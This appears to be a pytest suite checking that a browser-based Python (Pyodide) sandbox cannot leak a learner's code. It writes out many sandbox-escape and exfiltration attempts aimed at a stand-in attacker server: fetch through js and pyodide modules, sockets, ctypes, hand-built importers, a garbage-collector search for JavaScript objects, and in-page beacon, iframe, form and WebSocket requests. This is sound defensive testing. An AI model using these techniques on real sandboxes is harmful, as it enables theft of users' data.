"""The learner's code does not leave the browser: everything that could carry it away is tried, and nothing arrives."""

import re
from collections.abc import Iterator

import pytest
from component_server import FOLDER, ComponentServer
from engine_bench import Bench
from playwright.sync_api import Browser

SECRET = "my-secret-code"

ATTEMPTS = {
    "import js": "import js\njs.fetch(URL)",
    "pyodide.http": "from pyodide.http import pyfetch\nawait pyfetch(URL)",
    "open_url": "from pyodide.http import open_url\nopen_url(URL)",
    "run_js": "from pyodide.code import run_js\nrun_js(f'fetch({URL!r})')",
    "urllib": "import urllib.request\nurllib.request.urlopen(URL)",
    "http.client": "import http.client\nc = http.client.HTTPConnection(HOST)\nc.request('GET', PATH)\nc.getresponse()",
    "socket": (
        "import socket\ns = socket.create_connection(HOST.split(':'))\n"
        "s.sendall(f'GET {PATH} HTTP/1.0\\r\\n\\r\\n'.encode())"
    ),
    "asyncio": "import asyncio\nr, w = await asyncio.open_connection(*HOST.split(':'))\nw.write(PATH.encode())",
    "webbrowser": "import webbrowser\nwebbrowser.open(URL)",
    "_pyodide_core": "import _pyodide_core\n_pyodide_core.run_js(f'fetch({URL!r})')",
    "importlib": "import importlib\nimportlib.import_module('js').fetch(URL)",
    "importlib without sys.modules": (
        "import sys, importlib\n"
        "for name in [name for name, module in sys.modules.items() if module is None]:\n    del sys.modules[name]\n"
        "for name in 'js pyodide_js pyodide _pyodide _pyodide_core pyodide.http pyodide.code host'.split():\n"
        "    try:\n        module = importlib.import_module(name)\n    except ImportError:\n        continue\n"
        "    tries = ['fetch', 'run_js', 'eval', 'open_url']\n"
        "    for attempt in tries:\n        getattr(module, attempt, print)(URL)\n    raise SystemError(name)"
    ),
    "a finder of one's own": (
        "import sys, zipimport, importlib.util\n"
        "archive = next(path for path in sys.path if path.endswith('.zip'))\n"
        "zipimport.zipimporter(archive).invalidate_caches()\n"
        "zipimport.zipimporter(archive).load_module('pyodide.http').open_url(URL)"
    ),
    "builtin by hand": (
        "import _imp, importlib.machinery\n"
        "spec = importlib.machinery.ModuleSpec('_pyodide_core', None)\n"
        "_imp.create_builtin(spec).run_js(f'fetch({URL!r})')"
    ),
    "ctypes": ("import ctypes\nrun = ctypes.CDLL(None).emscripten_run_script\nrun(f'fetch({URL!r})'.encode())"),
}

# Whatever looks like a JavaScript object is asked for the ways out, and for a function made of text.
DIG = """
import gc
seen = set()
def dig(thing, depth):
    if depth == 0 or id(thing) in seen:
        return
    seen.add(id(thing))
    for way in ("fetch", "XMLHttpRequest", "WebSocket", "EventSource", "Worker", "importScripts", "postMessage", "eval",
                "sendBeacon", "open", "loadPackage", "runPython", "_module", "_api"):
        try:
            found = getattr(thing, way)
        except Exception:
            continue
        print("FOUND", type(thing).__name__, way)
        for argument in (URL, f"fetch({URL!r})"):
            try:
                found(argument)
                found.new(argument)
            except Exception:
                pass
    try:
        getattr(thing, "constructor").constructor(f"fetch({URL!r})")()
        print("FOUND constructor")
    except Exception:
        pass
    for next_one in ("constructor", "prototype", "__proto__", "globalThis", "self", "js_id", "buffer", "navigator"):
        try:
            dig(getattr(thing, next_one), depth - 1)
        except Exception:
            pass
proxies = [thing for thing in gc.get_objects() if "Js" in type(thing).__name__]
held = [thing for holder in gc.get_objects() for thing in gc.get_referents(holder)]
reached = [thing for thing in held if type(thing).__name__.startswith("Js")]
modules = [thing for thing in gc.get_objects() if type(thing).__name__ == "module" and "pyodide" in thing.__name__]
for thing in [*proxies, *reached, *modules]:
    dig(thing, 4)
print("SEARCHED", len(reached))
for module in modules:
    for name in ("run_js", "fetch", "open_url", "pyfetch", "js", "pyodide_js", "jsnull", "setTimeout"):
        thing = getattr(module, name, None)
        if thing is not None:
            dig(thing, 4)
            for argument in (URL, f"fetch({URL!r})"):
                try:
                    thing(argument)
                    print("CALLED", module.__name__, name)
                except BaseException as error:
                    print("refused", module.__name__, name, type(error).__name__)
"""

# The same, written in JavaScript, in the page, where nothing but the policy is in the way.
PAGE_ATTEMPTS = {
    "another host": "await fetch(other)",
    "the same host": "await fetch(same)",
    "XMLHttpRequest": "const r = new XMLHttpRequest(); r.open('GET', other); r.onloadend = done; r.send();",
    "WebSocket": "const s = new WebSocket(other.replace('http', 'ws')); s.onerror = s.onclose = done;",
    "EventSource": "new EventSource(other).onerror = done;",
    "beacon": "navigator.sendBeacon(other, 'code'); done();",
    "image": "const i = new Image(); i.onerror = i.onload = done; i.src = other;",
    "module": "await import(other);",
    "worker": "const w = new Worker(same); w.onerror = w.onmessage = done;",
    "form": "const f = document.createElement('form'); f.action = other; f.target = 'x'; add(f); f.submit(); done();",
    "frame": "const f = document.createElement('iframe'); f.onload = done; f.src = other; add(f);",
    "stylesheet": "const l = link('stylesheet'); l.onerror = l.onload = done; l.href = other; add(l);",
    "prefetch": "const l = link('prefetch'); l.onerror = l.onload = done; l.href = other; add(l);",
}
IN_PAGE = """([other, same]) => new Promise((done) => {
    const add = (element) => document.body.append(element);
    const link = (rel) => Object.assign(document.createElement("link"), { rel });
    setTimeout(done, 1000);
    ATTEMPT
})"""


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[ComponentServer]:
    """A server of somebody else, who would like to have the code."""
    with ComponentServer(
        {"Access-Control-Allow-Origin": "*", "Cross-Origin-Resource-Policy": "cross-origin"}
    ) as server:
        yield server


def leaks(*servers: ComponentServer) -> list[str]:
    return [path for server in servers for path in server.requests if SECRET in path]


def targets(bench: Bench, elsewhere: ComponentServer) -> list[str]:
    """Another host, this host, and a path that the policy allows with the code in its query string."""
    allowed = f"{bench.server.origin}{FOLDER}vendor/manifest.json?{SECRET}"
    return [f"{elsewhere.origin}/{SECRET}", f"{bench.server.origin}/_stcore/{SECRET}", allowed]


def test_a_leak_would_be_noticed(browser: Browser, elsewhere: ComponentServer) -> None:
    context = browser.new_context()
    page = context.new_page()
    page.goto(elsewhere.origin + FOLDER + "engine.html?plain")
    page.evaluate("(url) => fetch(url).catch(() => {})", f"{elsewhere.origin}{FOLDER}vendor/manifest.json?{SECRET}")
    context.close()
    assert leaks(elsewhere)
    elsewhere.requests.clear()


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_python_has_no_way_out(bench: Bench, elsewhere: ComponentServer, attempt: str) -> None:
    for url in targets(bench, elsewhere):
        host, path = re.match(r"http://([^/]+)(/.*)", url).groups()  # type: ignore[union-attr]
        result = bench.run(
            f"URL, HOST, PATH = {url!r}, {host!r}, {path!r}\n{ATTEMPTS[attempt]}", limits={"timeMs": 3_000}
        )
        assert attempt == "webbrowser" or result["status"] != "returned", result
    assert leaks(bench.server, elsewhere) == []


def test_there_is_no_object_of_javascript_that_leads_out(bench: Bench, elsewhere: ComponentServer) -> None:
    for url in targets(bench, elsewhere):
        result = bench.run(f"URL = {url!r}\n{DIG}", limits={"timeMs": 20_000})
        assert result["status"] == "returned", result
        assert "FOUND" not in result["stdout"], result["stdout"]
        assert "SEARCHED 0\n" in result["stdout"]
    assert leaks(bench.server, elsewhere) == []


@pytest.mark.parametrize("attempt", PAGE_ATTEMPTS)
def test_the_policy_alone_keeps_other_addresses_out(bench: Bench, elsewhere: ComponentServer, attempt: str) -> None:
    other, same, _ = targets(bench, elsewhere)
    attempted = IN_PAGE.replace("ATTEMPT", f"(async () => {{ {PAGE_ATTEMPTS[attempt]} }})().catch(done);")
    bench.evaluate(attempted, [other, same])
    assert leaks(bench.server, elsewhere) == []


def test_text_never_becomes_javascript(bench: Bench) -> None:
    # In a timer, because what a debugger evaluates may use eval.
    tries = """() => { try { (0, eval)("1"); return "ran"; } catch (error) { return error.name; } }"""
    in_page = bench.evaluate(f"new Promise((done) => setTimeout(() => done(({tries})())))")
    in_worker = bench.evaluate(
        """(tries) => new Promise((done) => {
            const address = URL.createObjectURL(new Blob([`postMessage((${tries})())`], { type: "text/javascript" }));
            new Worker(address, { type: "module" }).onmessage = ({ data }) => done(data);
        })""",
        tries,
    )
    assert (in_page, in_worker) == ("EvalError", "EvalError")


def test_a_worker_inherits_the_policy(bench: Bench, elsewhere: ComponentServer) -> None:
    other, same, _ = targets(bench, elsewhere)
    send = "(url) => fetch(url).then(() => 'sent', () => 'refused')"
    script = f"Promise.all([{other!r}, {same!r}].map({send})).then(postMessage)"
    answers = bench.evaluate(
        """(script) => new Promise((done) => {
            const address = URL.createObjectURL(new Blob([script], { type: "text/javascript" }));
            new Worker(address, { type: "module" }).onmessage = ({ data }) => done(data);
        })""",
        script,
    )
    assert answers == ["refused", "refused"]
    assert leaks(bench.server, elsewhere) == []
